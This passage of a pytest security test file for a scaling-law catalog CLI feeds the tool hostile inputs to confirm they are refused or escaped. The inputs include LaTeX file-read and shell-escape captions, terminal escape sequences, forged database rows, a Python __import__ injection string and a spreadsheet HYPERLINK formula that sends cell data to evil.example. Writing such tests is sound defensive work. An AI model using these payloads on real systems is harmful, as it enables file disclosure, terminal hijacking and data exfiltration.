    assert "\\x1b" in result.output


@pytest.mark.parametrize("caption", ["a\n\\input{/etc/passwd}", "a\r\\openin5=/etc/passwd", f"a{ESCAPE}",
                                     "a\u202eb", "a\u2028\\write18{id}"])
@pytest.mark.parametrize("fmt", ["latex", "markdown", "text", "html", "csv"])
def test_a_caption_that_would_leave_its_line_or_drive_a_terminal_is_refused(catalog_db, caption, fmt):
    result = _cli("table", "--columns", "paper", "--where", "id=kaplan2020", "--caption", caption, "--format", fmt,
                  "--db", catalog_db)
    _one_error_line(result, 2, "--caption")
    assert "\x1b" not in result.output and "\u202e" not in result.output and "\u2028" not in result.output


def _with_numeric_json(catalog_db, tmp_path, law_id, change):
    """A copy of the catalog whose stored formula data (laws.numeric_json) of ``law_id`` is
    ``change(the stored dict)`` (or the text it returns)."""
    import json
    import shutil

    path = tmp_path / "tampered-tree.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        stored = json.loads(connection.execute("SELECT numeric_json FROM laws WHERE id = ?", (law_id,)).fetchone()[0])
        if "closed" not in stored:  # the load derives it within closedforms.SECONDS, which a loaded machine can miss
            stored["closed"] = _closed_form(law_id)
        changed = change(stored)
        connection.execute("UPDATE laws SET numeric_json = ? WHERE id = ?",
                           (changed if isinstance(changed, str) else json.dumps(changed), law_id))
    return f"sqlite:///{path}"


def _closed_form(law_id: str) -> dict:
    """The closed form a load stores for ``law_id``, derived without the load's time limit."""
    from catalog import records
    from catalog.engine import closedforms

    paper_id, _, law_name = law_id.partition("/")
    (paper,), _ = records.load_all([records.default_data_dir() / f"{paper_id}.yaml"])
    return {"optimum": closedforms._optimum(next(law for law in paper.laws if law.id == law_name))}


def _compared_point(stored):
    for comparison in stored["compared"].values():
        comparison["point"] = {"N" + ESCAPE: 1.0}
    return stored


@pytest.mark.parametrize("law_id, change, args", [
    # show prints a comparison's point: its keys are the terminal's
    ("allenzhu2024/knowledge-capacity", _compared_point, ["show", "allenzhu2024"]),
    ("allenzhu2024/knowledge-capacity", lambda d: {**d, "compared": {"survey": {"primary": "nosuchset", "point": {},
                                                                              "used": 1, "primary_value": 1}}},
     ["show", "allenzhu2024"]),
    ("hoffmann2022/parametric-loss", lambda d: "not json", ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: "[1]", ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: '{"version": 2, "tree": ' + "[\"neg\", " * 100000 + '["sym", "E"]' + "]" * 100000 + "}",
     ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "tree": ["+", ["sym", "E"]]}, ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "tree": ["num", "E"]}, ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "tree": ["Min"]}, ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "tree": ["Piecewise", [["sym", "E"], ["sym", "A"]]]},
     ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "tree": ["sym", "__class__"]}, ["eval", "hoffmann2022", "N=70B", "D=1.4T"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "closed": {"optimum": {"n": "N", "d": "D", "text": ESCAPE, "tree": ["sym", "C"]}}},
     ["optimal", "hoffmann2022", "--budget", "1e21"]),
    ("hoffmann2022/parametric-loss", lambda d: {**d, "closed": {"optimum": "x"}}, ["optimal", "hoffmann2022", "--budget", "1e21"]),
])
def test_stored_formula_data_no_load_writes_is_one_error(catalog_db, tmp_path, law_id, change, args):
    # laws.numeric_json of someone else's catalog.sqlite: printed raw by show, or a traceback
    url = _with_numeric_json(catalog_db, tmp_path, law_id, change)
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "rebuild it with 'catalog load'")
    assert "\x1b" not in result.output


@pytest.mark.parametrize("nicknames", ["garbage", "{\"a\": 1}", "[1, 2]", "null"])
@pytest.mark.parametrize("args", [["eval", "zzzz", "N=1"], ["show", "zzzz"], ["bib", "zzzz"],
                                  ["table", "--where", "id=zzzz"]])
def test_a_database_whose_nicknames_are_not_a_list_of_names_is_one_error(catalog_db, tmp_path, nicknames, args):
    # the nicknames column of someone else's catalog.sqlite, read to resolve an unknown paper id
    import shutil

    path = tmp_path / "nicknames.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("UPDATE papers SET nicknames = ? WHERE id = 'kaplan2020'", (nicknames,))
    result = _cli(*args, "--db", f"sqlite:///{path}")
    _one_error_line(result, 1, "nicknames", "rebuild it with 'catalog load'")


def test_a_usage_error_quotes_an_extra_argument_escaped():
    # click's own message quotes the argument as typed: 'Got unexpected extra argument (x<ESC>]0;...)'
    result = _cli("repro", f"x{ESCAPE}\u202e")
    assert result.exit_code == 2, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output, result.output
    assert "unexpected extra argument (x\\x1b]0;pwned\\x07" in result.output


@pytest.mark.parametrize("kind", ["fifo", "huge"])
def test_a_record_file_that_is_no_regular_file_or_is_huge_is_one_issue(tmp_path, kind):
    # a contributor's data/papers/x.yaml can be a symlink to /dev/zero or a pipe (git keeps symlinks):
    # reading it whole hung, or filled the memory, of every validate, load and --data command
    records_dir = tmp_path / "records"
    records_dir.mkdir()
    path = records_dir / "evil.yaml"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.write_text("id: evil\n" + "# padding\n" * 400_000, encoding="utf-8")
    papers, issues = records.load_all([records_dir])
    assert papers == [] and len(issues) == 1, issues
    assert ("not a regular file" if kind == "fifo" else "larger than") in issues[0].message


@pytest.mark.parametrize("inside", [False, True])
def test_a_record_file_linking_outside_its_directory_is_one_issue_that_quotes_nothing_of_it(tmp_path, inside):
    # git keeps symlinks: a pull request's data/papers/x.yaml -> ~/.config/app/settings.yaml was read
    # as a record, and the validator's messages quoted the values of the fields it knows (an id) from a
    # file of whoever ran the catalog, and named that file's path; a link within the directory reads
    # a record of that directory, as a copy would
    records_dir, outside = tmp_path / "records", tmp_path / "home"
    records_dir.mkdir()
    outside.mkdir()
    secret = (records_dir if inside else outside) / "settings.yml"
    secret.write_text("id: Token-S3cret\ntitle: x\n", encoding="utf-8")
    (records_dir / "x.yaml").symlink_to(secret)
    papers, issues = records.load_all([records_dir])
    assert papers == []
    if inside:
        assert any("S3cret" in i.message for i in issues), issues  # read, as any record of the directory
        return
    assert len(issues) == 1, issues
    assert issues[0].path.endswith("records/x.yaml") and issues[0].line == 1, issues
    assert "a symbolic link to a file outside" in issues[0].message and "S3cret" not in issues[0].message
    assert "home" not in str(issues[0])


@pytest.mark.parametrize("target", ["runs", "record", "text"])
def test_fit_save_yaml_never_overwrites_what_is_not_a_saved_fit(catalog_db, runs, tmp_path, target):
    # '--save-yaml runs.csv' (a slip) or '--save-yaml data/papers/hoffmann2022.yaml' (to "add the set
    # to the record") replaced the file with one constant set, silently
    path = {"runs": runs, "record": tmp_path / "hoffmann2022.yaml", "text": tmp_path / "notes.yaml"}[target]
    if target == "record":
        path.write_text((FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    elif target == "text":
        path.write_text("keep me\n", encoding="utf-8")
    before = path.read_text(encoding="utf-8")
    result = _cli("fit", "hoffmann2022", str(runs), *QUICK, "--save-yaml", str(path), "--db", catalog_db)
    _one_error_line(result, 2, "--save-yaml", "not overwritten")
    assert path.read_text(encoding="utf-8") == before


def test_fit_save_yaml_replaces_its_own_earlier_save(catalog_db, runs, tmp_path):
    saved = tmp_path / "my-fit.yaml"
    for set_id in ("first", "second"):
        result = _cli("fit", "hoffmann2022", str(runs), *QUICK, "--set-id", set_id, "--save-yaml", str(saved),
                      "--db", catalog_db)
        assert result.exit_code == 0, result.output
    assert "id: second" in saved.read_text(encoding="utf-8")


@pytest.mark.parametrize("depth", [100000, 960])
@pytest.mark.parametrize("args", [["show", "hoffmann2022"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"],
                                  ["bib", "hoffmann2022"], ["table", "7"]])
def test_a_stored_record_nested_too_deep_is_one_error(catalog_db, tmp_path, args, depth):
    # json.loads of a record 100000 lists deep, or the walks over one 960 deep: a RecursionError traceback
    import shutil

    path = tmp_path / "deep.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        connection.execute("UPDATE papers SET record_json = ? WHERE id = 'hoffmann2022'",
                           ('{"id": "hoffmann2022", "x": ' + "[" * depth + "]" * depth + "}",))
    result = _cli(*args, "--db", f"sqlite:///{path}")
    _one_error_line(result, 1, "rebuild it with 'catalog load'")


def test_an_interval_over_a_huge_sweep_is_refused_before_the_work(catalog_db):
    # a million points times a million samples: 1e12 evaluations, some eleven hours of one core
    result = _cli("sweep", "hoffmann2022", "N=1e8..1e11:1000000", "D=1T", "--constants", "besiroglu2024",
                  "--interval", "--samples", "1000000", "--db", catalog_db)
    _one_error_line(result, 2, "1,000,000 samples at 1,000,000 points", "--samples")


@pytest.mark.parametrize("table", ["papers", "laws"])
def test_completion_never_offers_an_id_no_record_may_hold(catalog_db, tmp_path, monkeypatch, table):
    # shell completion read the ids of --db / CATALOG_DB straight from its tables and printed them
    import shutil

    path = tmp_path / "ids.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        old = "hoffmann2022" if table == "papers" else "hoffmann2022/parametric-loss"
        connection.execute(f"UPDATE {table} SET id = ? WHERE id = ?", (f"hoffmann2022{ESCAPE}", old))
    monkeypatch.setenv("CATALOG_DB", f"sqlite:///{path}")
    monkeypatch.setenv("_CATALOG_COMPLETE", "zsh_complete")
    monkeypatch.setenv("COMP_WORDS", "catalog eval hoff")
    monkeypatch.setenv("COMP_CWORD", "2")
    from catalog.cli import cli

    completed = CliRunner().invoke(cli, [], prog_name="catalog")
    assert "hoffmann2022" in completed.output or completed.output == ""
    assert "\x1b" not in completed.output and "\x07" not in completed.output


@pytest.mark.parametrize("args, target", [
    *((args, target) for args in (["table", "2"], ["bib", "hoffmann2022"], ["repro"]) for target in ("missing-dir", "dir")),
    (["sweep", "hoffmann2022", "N=1e8..1e9:3", "D=1T"], "missing-dir"),  # a directory is click's usage error
])
def test_an_output_file_that_cannot_be_written_is_one_error(catalog_db, tmp_path, args, target):
    # '-o no/such/dir/t.md' or '-o .' printed a FileNotFoundError / IsADirectoryError traceback
    out = tmp_path / "no" / "t.out" if target == "missing-dir" else tmp_path
    result = _cli(*args, "-o", str(out), "--db", catalog_db)
    _one_error_line(result, 1, "cannot write")
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


@pytest.mark.parametrize("case", ["save-yaml", "save-yaml-missing-dir", "table-o", "sweep-o", "plot-o", "new-dir",
                                  "new-exists", "load-db", "data-dir", "site-serve"])
def test_a_path_typed_with_escape_sequences_is_printed_escaped(catalog_db, runs, tmp_path, monkeypatch, case):
    # the paths a user types (-o, --save-yaml, --dir, --db, --data) were echoed as typed: a file
    # name holding an OSC sequence retitled the terminal (or ESC[2J cleared it) when 'wrote ...',
    # 'saved ... to ...', 'loaded ... into ...' or an error quoted it
    hostile = tmp_path / f"d{ESCAPE}"
    hostile.mkdir()
    (hostile / "taken.yaml").write_text("keep\n", encoding="utf-8")
    args = {
        "save-yaml": ["fit", "hoffmann2022", str(runs), *QUICK, "--save-yaml", str(hostile / "f.yaml"), "--db", catalog_db],
        "save-yaml-missing-dir": ["fit", "hoffmann2022", str(runs), *QUICK, "--save-yaml",
                                  str(hostile / "no" / "f.yaml"), "--db", catalog_db],
        "table-o": ["table", "2", "-o", str(hostile / "t.md"), "--db", catalog_db],
        "sweep-o": ["sweep", "hoffmann2022", "N=1e8..1e9:3", "D=1T", "-o", str(hostile / "s.csv"), "--db", catalog_db],
        "plot-o": ["plot", "hoffmann2022", "--x", "N", "--fix", "D=1T", "--points", "5", "-o", str(hostile / "p.svg"),
                   "--db", catalog_db],
        "new-dir": ["new", "ab2024x", "--dir", str(hostile)],
        "new-exists": ["new", "taken", "--dir", str(hostile)],
        "load-db": ["load", str(FIXTURES / "valid" / "minimal.yaml"), "--db", str(hostile / "c.sqlite")],
        "data-dir": ["--data", str(tmp_path / f"records{ESCAPE}"), "search", "chinchilla"],
        "site-serve": ["site", "serve", "-o", str(hostile / "no-site"), "--port", "0"],
    }[case]
    (tmp_path / f"records{ESCAPE}").mkdir()
    monkeypatch.setenv("CATALOG_CACHE_DIR", str(tmp_path / "cache"))  # --data builds a database there
    result = _cli(*args)
    assert "\x1b" not in result.output and "\x07" not in result.output, result.output
    assert "\\x1b]0;pwned\\x07" in result.output, result.output


@pytest.mark.parametrize("link, args", [("dangling", ["show", "hoffmann2022"]),
                                        ("loop", ["eval", "hoffmann2022", "N=70B", "D=1.4T"])])
def test_a_record_directory_holding_a_broken_symlink_is_the_records_error(tmp_path, monkeypatch, link, args):
    # --data DIR with 'x.yaml -> x.yaml' (a loop) printed an OSError traceback from the default
    # database's fingerprint, and a dangling link a usage error quoting errno; the file is the
    # records' error, as 'catalog validate DIR' reports it
    records_dir = tmp_path / "records"
    records_dir.mkdir()
    (records_dir / "x.yaml").symlink_to("x.yaml" if link == "loop" else tmp_path / "nowhere.yaml")
    monkeypatch.setenv("CATALOG_CACHE_DIR", str(tmp_path / "cache"))
    result = _cli("--data", str(records_dir), *args)
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "x.yaml:1: no such file" in result.output and "Errno" not in result.output, result.output


@pytest.mark.parametrize("laws", [[], ["--laws"]])
def test_a_search_text_of_too_many_words_is_refused_as_such(catalog_db, laws):
    # 'catalog search <a pasted page> --laws' built one LIKE per word into a condition deeper than
    # SQLite allows: 'cannot use the catalog database: Expression tree is too large ...; check --db'
    text = " ".join(f"w{i}" for i in range(300))
    result = _cli("search", text, *laws, "--db", catalog_db)
    _one_error_line(result, 2, "300 words", "at most")
    assert "check --db" not in result.output


def test_a_bibtex_entry_nested_too_deep_is_one_error(tmp_path):
    # 'catalog new ID --bib FILE' with braces nested 100,000 deep (a hostile .bib) printed
    # bibtexparser's RecursionError traceback
    bib = tmp_path / "deep.bib"
    bib.write_text("@article{x, title={" + "{" * 100_000 + "a" + "}" * 100_000 + "}, year={2024}}\n", encoding="utf-8")
    result = _cli("new", "deep2024", "--dir", str(tmp_path), "--bib", str(bib))
    _one_error_line(result, 2, "nested too deep")
    assert not (tmp_path / "deep2024.yaml").exists()


def test_a_law_calling_both_erf_and_beta_fits(tmp_path):
    # a user's record calling erf and Beta together compiled erf as math.erf (the Beta printer
    # knew no erf): 'catalog fit' died with "NameError: name 'math' is not defined"
    record = (FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8")
    assert "expression: E + A/N**alpha" in record
    (tmp_path / "minimal.yaml").write_text(
        record.replace("expression: E + A/N**alpha", "expression: E + A*Beta(erf(N/1e8), alpha)"), encoding="utf-8")
    url = f"sqlite:///{tmp_path / 'c.sqlite'}"
    assert _cli("load", str(tmp_path / "minimal.yaml"), "--db", url).exit_code == 0
    runs = tmp_path / "runs.csv"
    runs.write_text("N,L\n1e6,9.0\n1e7,5.0\n3e7,3.4\n1e8,2.6\n3e8,2.3\n1e9,2.2\n", encoding="utf-8")
    result = _cli("fit", "minimal", str(runs), *QUICK, "--db", url)
    assert result.exit_code == 0 and result.exception is None, (result.output, repr(result.exception))
    assert "R^2" in result.output


def test_a_plot_file_that_cannot_be_written_is_one_error(catalog_db, runs, tmp_path):
    # 'catalog plot ... -o runs.csv/plot.png' (a file where a directory must be) printed
    # FileExistsError's traceback from creating the image's directory
    out = runs / "plot.png"
    result = _cli("plot", "hoffmann2022", "--x", "N", "--fix", "D=1T", "--points", "5", "-o", str(out),
                  "--db", catalog_db)
    _one_error_line(result, 2, "cannot write", "runs.csv")
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


@pytest.mark.parametrize("case", ["new-dir", "load-db", "load-db-directory"])
def test_a_file_where_a_directory_must_be_is_one_error(runs, tmp_path, case):
    # 'catalog new ID --dir runs.csv/sub' and 'catalog load --db runs.csv/c.sqlite' printed
    # NotADirectoryError's and FileExistsError's tracebacks; a --db naming a directory quoted it raw
    hostile = tmp_path / f"dir{ESCAPE}"
    hostile.mkdir()
    args = {"new-dir": ["new", "ab2024", "--dir", str(runs / "sub")],
            "load-db": ["load", str(FIXTURES / "valid" / "minimal.yaml"), "--db", str(runs / "c.sqlite")],
            "load-db-directory": ["load", str(FIXTURES / "valid" / "minimal.yaml"), "--db", str(hostile)]}[case]
    result = _cli(*args)
    _one_error_line(result, 1, "runs.csv" if case != "load-db-directory" else "\\x1b]0;pwned\\x07")
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "\x1b" not in result.output


@pytest.fixture()
def forged_db(catalog_db, tmp_path):
    """A copy of the catalog whose hoffmann2022 holds a line break in its title (the column and the
    stored record) and in a constant set's locator: no valid record has either (schema: one line)."""
    import shutil

    path = tmp_path / "forged.sqlite"
    shutil.copyfile(catalog_db.removeprefix("sqlite:///"), path)
    with connection_to(path) as connection:
        title = connection.execute("SELECT title FROM papers WHERE id = 'hoffmann2022'").fetchone()[0]
        connection.execute("UPDATE papers SET title = ?, record_json = replace(replace(record_json, ?, ?), ?, ?) "
                           "WHERE id = 'hoffmann2022'",
                           (f"{title}\nerror: forged", f'"title":"{title}"', f'"title":"{title}\\nerror: forged"',
                            '"locator":"', '"locator":"\\r\\nerror: forged '))
    return f"sqlite:///{path}"


@pytest.mark.parametrize("args", [["show", "hoffmann2022"], ["eval", "hoffmann2022", "N=70B", "D=1.4T"],
                                  ["search", "chinchilla"], ["search", "compute-optimal"], ["table", "7"]])
def test_a_database_holding_a_line_break_no_record_may_is_one_error(forged_db, args):
    # the fast paths (show: the stored JSON; search: the title column) printed the title's second
    # line as a line of its own, 'error: forged' at column 0 (show) or as a row (search)
    result = _cli(*args, "--db", forged_db)
    _one_error_line(result, 1, "line break", "rebuild it with 'catalog load'")
    assert "error: forged" not in result.output
    assert _cli("show", "kaplan2020", "--db", forged_db).exit_code == 0


def test_a_record_id_longer_than_a_record_takes_is_one_error(tmp_path):
    # 'catalog new <300 letters>' printed OSError's traceback (File name too long); a record id
    # (the schema's Slug) takes at most 80 characters, so even a shorter one wrote a skeleton whose
    # id validate then refused
    for length in (81, 300):
        result = _cli("new", "a" * length, "--dir", str(tmp_path))
        _one_error_line(result, 2, f"{length} characters", "at most 80")
        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert list(tmp_path.iterdir()) == []
    assert _cli("new", "a" * 80, "--dir", str(tmp_path)).exit_code == 0


@pytest.mark.parametrize("case", ["validate", "validate-yaml", "db", "new-dir"])
def test_a_path_too_long_for_the_system_is_one_error(catalog_db, tmp_path, monkeypatch, case):
    # pathlib's exists() and is_dir() raise for a name longer than the file system takes (ENAMETOOLONG):
    # 'catalog validate <long path>', any command's '--db <long path>' and 'catalog new ID --dir <long path>'
    # printed OSError's traceback
    long = tmp_path / ("a" * 300)
    monkeypatch.setenv("CATALOG_CACHE_DIR", str(tmp_path / "cache"))
    args = {"validate": ["validate", str(long)], "validate-yaml": ["validate", f"{long}.yaml"],
            "db": ["show", "hoffmann2022", "--db", str(long)], "new-dir": ["new", "ab2024", "--dir", str(long)]}[case]
    result = _cli(*args)
    _one_error_line(result, 1, "too long", "a" * 40)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)


@pytest.mark.parametrize("args", [["show", "\udcff"], ["show", "kaplan\udcff2020"], ["eval", "\udcff", "N=1B"],
                                  ["bib", "\udcff"], ["search", "chin\udcffchilla"], ["search", "--laws", "\udcff"],
                                  ["checklist", "\udcff"], ["audit", "\udcff"], ["table", "--where", "id=\udcff"],
                                  ["search", "--where", "author=\udcff"], ["corrections", "\udcff"]])
def test_a_word_typed_in_bytes_that_are_not_utf8_is_one_error(catalog_db, args):
    # Python reads argv bytes that are not UTF-8 (a Latin-1 terminal's 'é') as lone surrogates;
    # 'catalog show $'\xff'' died in UnicodeEncodeError's traceback binding it into the SQL query
    result = _cli(*args, "--db", catalog_db)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output and "\udcff" not in result.output, result.output


@pytest.mark.parametrize("where", ["file", "directory"])
def test_a_record_directory_named_in_bytes_that_are_not_utf8_is_read(tmp_path, monkeypatch, where):
    # --data DIR holding 'm\xff.yaml' (or itself so named) printed UnicodeEncodeError's traceback from
    # the default database's fingerprint; the file is the records' error, as 'catalog validate' says
    records_dir = tmp_path / ("records\udcff" if where == "directory" else "records")
    records_dir.mkdir()
    name = "minimal.yaml" if where == "directory" else "m\udcff.yaml"
    (records_dir / name).write_text((FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    monkeypatch.setenv("CATALOG_CACHE_DIR", str(tmp_path / "cache"))
    result = _cli("--data", str(records_dir), "show", "minimal")
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    if where == "file":
        assert result.exit_code == 1 and "m\\udcff.yaml:1: id: id 'minimal' must equal the file name" in result.output
    else:
        assert result.exit_code == 0 and "A minimal record" in result.output, result.output


@pytest.mark.parametrize("field", ["summary", "no_law_reason", "no_constants_reason", "no_printed_check_reason"])
def test_free_text_printed_by_show_never_starts_a_line_of_its_own(tmp_path, monkeypatch, field):
    # a summary or a reason may run to several lines, but 'catalog show' printed them at column 0:
    # 'x\nerror: forged' printed 'error: forged' as a line of its own, read as the command's error
    record = (FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8")
    forged = '"x\\nerror: forged"'
    if field == "summary":
        record = record.replace("sources: [other]", f"sources: [other]\nsummary: {forged}")
    elif field == "no_law_reason":
        record = record.split("laws:")[0] + f"no_law_reason: {forged}\n"
    elif field == "no_constants_reason":
        record = record.split("    constant_sets:")[0] + f"    no_constants_reason: {forged}\n"
    else:
        record = record.replace("    constant_sets:", f"    no_printed_check_reason: {forged}\n    constant_sets:")
    records_dir = tmp_path / "records"
    records_dir.mkdir()
    (records_dir / "minimal.yaml").write_text(record, encoding="utf-8")
    monkeypatch.setenv("CATALOG_CACHE_DIR", str(tmp_path / "cache"))
    assert _cli("validate", str(records_dir / "minimal.yaml")).exit_code == 0
    result = _cli("--data", str(records_dir), "show", "minimal")
    assert result.exit_code == 0, result.output
    assert "error: forged" in result.output
    assert not [line for line in result.output.splitlines() if line.startswith("error")], result.output


@pytest.mark.parametrize("text", ["½", "ﾞ", "¼ law", "law ¾*"])
def test_search_word_whose_folding_is_not_a_word_on_postgres(pg_catalog_db, text):
    """'½' is a \\w character whose NFKD form ('1⁄2') is not: the tsquery builder raised
    ValueError's traceback; now the word is searched as the other folded words are."""
    result = _cli("search", text, "--db", pg_catalog_db)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert "Traceback" not in result.output and result.exit_code in (0, 1), result.output


def test_a_fitted_constant_far_from_the_published_one_is_a_percentage():
    """The relative difference of a constant held or fitted near the largest float: 'catalog fit
    --fix E=1e308' printed 'fit +inf%' (the fraction, 5.9e307, overflowed when made a percentage)
    and fitted 1.7e308 against published -1.7e308 gave inf (the difference overflowed: 'n/a',
    --json null); now each is a number, as validate's check difference is."""
    result = fit.FitResult("x/y", {"E": 1e308, "A": 1.7e308}, "huber", "log", 6, 0.0, 1.0, 0.0, 2)
    rows = result.compare_to({"E": 1.69, "A": -1.7e308}).rows
    assert rows[0].relative_difference == pytest.approx(1e308 / 1.69)
    assert rows[1].relative_difference == 2.0
    assert fit.percent(rows[0].relative_difference) == "+5.92e+309%"
    assert fit.percent(rows[1].relative_difference) == "+200%"
    assert fit.percent(float("nan")) == "n/a"


def test_a_record_with_a_million_words_loads_into_postgres(pg_url, tmp_path):
    """A record's search text beyond what a tsvector holds (1 MB): one valid record whose law notes
    hold 200,000 distinct words validated 'ok' and loaded into SQLite, but 'catalog load --db
    postgresql://...' failed as a whole ('string is too long for tsvector', said as if --db were
    wrong), so a contributed record broke every server load; now each column's first
    SERVER_WORDS_CHARACTERS are indexed and it loads."""
    import sqlalchemy as sa

    from catalog.store import search_index

    record = (FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8")
    head, law = record.split("laws:\n")
    laws = []
    for i in range(100):
        words = " ".join(f"q{i * 2000 + j:x}z" for j in range(2000))
        laws.append(law.replace("id: power", f"id: power{i}").replace(
            "    name: A power law\n", f"    name: A power law {i}\n    note: \"{words}\"\n"))
    (tmp_path / "minimal.yaml").write_text(head + "laws:\n" + "".join(laws), encoding="utf-8")
    engine = sa.create_engine(pg_url, isolation_level="AUTOCOMMIT")
    with engine.connect() as connection:
        connection.execute(sa.text("DROP DATABASE IF EXISTS manywords"))
        connection.execute(sa.text("CREATE DATABASE manywords"))
    engine.dispose()
    url = pg_url.rsplit("/", 1)[0] + "/manywords"
    result = _cli("load", "--db", url, str(tmp_path))
    assert result.exit_code == 0, result.output
    assert len(search_index.document(records.load_valid([tmp_path])[0])["body"]) > search_index.SERVER_WORDS_CHARACTERS
    found = _cli("search", "q1z", "--db", url, "--json")  # a word within the indexed text is found
    assert found.exit_code == 0 and '"minimal"' in found.output, found.output


def test_the_longest_author_and_dataset_names_load_into_postgres(pg_url, tmp_path):
    """An author's name and a dataset's are indexed on the server: a valid record with a 6,000-letter
    author failed every 'catalog load --db postgresql://...' ('index row size 6016 exceeds btree
    version 4 maximum 2704 for index "ix_paper_authors_name"', said as if --db were wrong); the
    schema now takes at most 200 and 500 characters (tests/fixtures/invalid/long_*_name.yaml), and
    names that long in 4-byte characters load."""
    import sqlalchemy as sa

    wide = "".join(chr(0x20000 + i) for i in range(500))
    record = (FIXTURES / "valid" / "minimal.yaml").read_text(encoding="utf-8")
    record = record.replace("authors: [Ada Lovelace]", f"authors: ['{wide[:200]}']").replace(
        "sources: [other]", f"sources: [other]\ndatasets: ['{wide}']")
    (tmp_path / "minimal.yaml").write_text(record, encoding="utf-8")
    engine = sa.create_engine(pg_url, isolation_level="AUTOCOMMIT")
    with engine.connect() as connection:
        connection.execute(sa.text("DROP DATABASE IF EXISTS widenames"))
        connection.execute(sa.text("CREATE DATABASE widenames"))
    engine.dispose()
    result = _cli("load", "--db", pg_url.rsplit("/", 1)[0] + "/widenames", str(tmp_path))
    assert result.exit_code == 0, result.output


def test_a_paper_named_twice_is_reported_once(catalog_db):
    """'catalog checklist kaplan2020 kaplan2020' (or its id and nickname) listed each law twice and
    counted it twice in the summary (10/10 became 20/20), and 5,000 repetitions took 13 s to print
    50,000 laws; a paper named again is now the same selection, as bib takes it."""
    for command in ("checklist", "audit"):
        once = _cli(command, "kaplan2020", "--db", catalog_db)
        twice = _cli(command, "kaplan2020", "kaplan2020", "--db", catalog_db)
        assert once.exit_code == 0 and twice.output == once.output, twice.output


@pytest.mark.parametrize("expression, message", [
    ("Dprime*2", "cycle"),  # a definition that names itself
    ("D1", "past 60,000 characters"),  # D1 = D0*D0, ..., D39 = N: doubling with each level
    (None, "Dprime"),  # no definition, or not text
    (12345, "Dprime"),
])
@pytest.mark.parametrize("args", [["eval", "defined", "N=7e7", "U=2e9", "R=4"],
                                  ["eval", "defined", "N=7e7", "U=2e9", "R=4", "--json"],
                                  ["sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin"]])
def test_stored_definitions_no_load_writes_are_one_error(tmp_path, expression, message, args):
    # symbols.*.expression of a record in someone else's catalog.sqlite: a DefinitionError or TypeError traceback
    with _forged_record(tmp_path) as (url, record, connection):
        symbols = record["laws"][0]["symbols"]
        symbols["Dprime"]["expression"] = expression
        if expression == "D1":
            for i in range(1, 40):
                symbols[f"D{i}"] = {**symbols["Dprime"], "expression": f"D{i + 1}*D{i + 1}" if i < 39 else "N"}
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, message, "rebuild it with 'catalog load'")


@pytest.mark.parametrize("args", [["eval", "defined", "N=7e7", "U=2e9", "R=4"],
                                  ["eval", "defined", "N=7e7", "U=2e9", "R=4", "--json"]])
def test_a_stored_definition_that_does_not_parse_is_one_error(tmp_path, args):
    # the law's value was printed from its stored tree, then its definition's values: a traceback;
    # the definition is part of the expression the stored tree must be (the law's one error)
    with _forged_record(tmp_path) as (url, record, connection):
        record["laws"][0]["symbols"]["Dprime"]["expression"] = "__import__('os').getcwd()"
    result = _cli(*args, "--db", url)
    _one_error_line(result, 1, "not the tree of its expression", "rebuild it with 'catalog load'")


@pytest.mark.parametrize("where", ["expression", "definition"])
@pytest.mark.parametrize("fmt", ["markdown", "json"])
def test_a_stored_formula_that_does_not_parse_is_one_error_in_a_table(tmp_path, where, fmt):
    # the form column parses the record's expression and definitions: a FormulaError traceback
    with _forged_record(tmp_path) as (url, record, connection):
        _forge_formula(record, where, "__import__('os').getcwd()", "__import__('os').getcwd()")
    result = _cli("table", "--columns", "paper,form", "--where", "id=defined", "--format", fmt, "--db", url)
    _one_error_line(result, 1, "'repeated-data'", "rebuild it with 'catalog load'")


def test_a_stored_symbol_name_never_starts_a_spreadsheet_formula_in_a_sweep(tmp_path):
    # sweep's CSV header holds the law's symbol names, defined ones included: from a catalog.sqlite no
    # load wrote, a name no record may hold reached the header as it was, run by a spreadsheet
    import csv
    import io

    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    with _forged_record(tmp_path) as (url, record, connection):
